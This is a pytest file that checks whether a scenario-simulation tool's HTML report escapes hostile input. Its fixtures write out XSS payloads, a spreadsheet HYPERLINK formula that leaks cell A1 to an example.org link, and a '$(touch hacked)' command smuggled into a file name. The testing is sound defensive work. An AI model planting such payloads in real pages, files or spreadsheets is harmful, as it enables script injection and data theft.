"""Is a case of somebody who means harm shown as the letters that he wrote, and nothing of it run?"""

import csv
import io
import json
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

import presidium

from .turning import turn

Show = Callable[..., Any]
OPEN = "for (const box of document.querySelectorAll('details')) box.open = true"
SMALL = Path(__file__).parents[1] / "scenario" / "small.yaml"

TRAP = "</script><script>window.hacked=1</script><img src=x onerror='window.hacked=1'>"
QUOTE = "<script>hacked=1</script>"  # a quotation is short
COMMENT = "<!--<script>window.hacked=1//--> &lt;b&gt; ${window.hacked=1} {{1}} \\u003cb>"
FORMULA = '=HYPERLINK("https://example.org/?"&A1,"press")'
LONG = "x" * 10_000
SCRIPTS = "محمد בן־גוריון 毛澤東 Ναζίμ ผู้นำ 🏛️ Z̸̧a̵l̸g̵o̷"
# What stands in the case, and what it becomes.
CHANGES = {
    "{en: The council of Arvenia, th: สภาแห่งอาร์เวเนีย}": {"en": TRAP, "th": TRAP},
    "{en: Ivo Orsk, th: อีวอ ออร์สก์}": {"en": TRAP},
    "{en: Ana Vey, th: อานา เวย์}": {"en": FORMULA, "th": FORMULA},
    "{en: Jon Tamm}": {"en": LONG, "th": LONG},
    "{en: Pal Ritt}": {"en": SCRIPTS, "th": SCRIPTS},
    "{en: Chair of the council, th: ประธานสภา}": {"en": COMMENT},
    '"จอมพลถึงแก่อสัญกรรม"': QUOTE,
    "{en: The students rose in April 1961}": {"en": TRAP},
    "{en: They rose in May.}": {"en": COMMENT},
    '"E. Kuhn, Arvenia after the Marshal (1978)"': TRAP,
    '"https://example.org/kuhn"': "https://example.org/'\"><script>window.hacked=1</script>",
    "{en: Does Orsk fall by the middle of 1962?}": {"en": TRAP},
}


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> str:
    """The page of a case full of traps, in a folder whose name is one."""
    text = SMALL.read_text(encoding="utf-8")
    for old, new in CHANGES.items():
        assert old in text, old
        text = text.replace(old, json.dumps(new, ensure_ascii=False))
    folder = tmp_path_factory.mktemp("hostile") / "'\"><img src=x onerror=window.hacked=1>"
    folder.mkdir()
    file = folder / "$(touch hacked)`;&.yaml"
    file.write_text(text, encoding="utf-8")
    run = presidium.simulate(presidium.load(file), histories=100, seed=7)
    run.report(folder / "report.html")
    return (folder / "report.html").read_text(encoding="utf-8")


@pytest.fixture(params=["en", "th"])
def sheet(show: Show, written: str, request: pytest.FixtureRequest) -> Any:
    opened = show(written, viewport={"width": 320, "height": 640})
    turn(opened, request.param)
    opened.evaluate(OPEN)
    return opened


def test_it_is_shown_as_text_and_nothing_runs(sheet: Any) -> None:
    shown = sheet.locator("main").inner_text()
    for text in (TRAP, COMMENT, FORMULA, SCRIPTS, QUOTE):
        assert text in shown
    for button in sheet.locator("#another, #verdicts button").all():
        button.click()
    sheet.wait_for_timeout(100)
    assert sheet.evaluate("window.hacked") is None
    assert sheet.locator("img, script[src], a[href^=javascript]").count() == 0
    assert sheet.locator("script").count() == 3
    assert len(sheet.asked) == 1
    assert sheet.said == []


def test_names_of_ten_thousand_letters_push_nothing_off_the_page(sheet: Any) -> None:
    assert LONG in sheet.locator("main").inner_text()
    assert sheet.evaluate("document.documentElement.scrollWidth") == 320


def test_a_spreadsheet_gets_no_formula(sheet: Any) -> None:
    texts = sheet.evaluate(
        "[...document.querySelectorAll('main table')].map(table => csvText(shownRows(table)))"
    )
    cells = [cell for text in texts for row in csv.reader(io.StringIO(text[1:], newline="")) for cell in row]
    assert f"'{FORMULA}" in cells
    starts = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t")]
    assert [cell for cell in starts if not re.fullmatch(r"[+-][\d.]+", cell)] == []


def test_a_saved_picture_of_it_runs_nothing(sheet: Any, tmp_path: Path) -> None:
    with sheet.expect_download() as waiting:
        sheet.locator("[data-save=svg]").first.click()
    picture = sheet.context.new_page()
    file = tmp_path / "picture.svg"
    file.write_bytes(Path(waiting.value.path()).read_bytes())
    picture.goto(file.as_uri())
    assert picture.evaluate("[window.hacked, document.documentElement.tagName]") == [None, "svg"]


@pytest.mark.parametrize("letter", ["\u202e", "\u2066", "\u0007", "\x1b", "\u2028"])
def test_letters_that_turn_or_steer_text_come_into_no_case(letter: str, tmp_path: Path) -> None:
    file = tmp_path / "case.yaml"
    file.write_text(SMALL.read_text(encoding="utf-8").replace("Ana Vey", f"Ana{letter}Vey"), encoding="utf-8")
    assert "error" in {problem.severity for problem in presidium.check(file)}
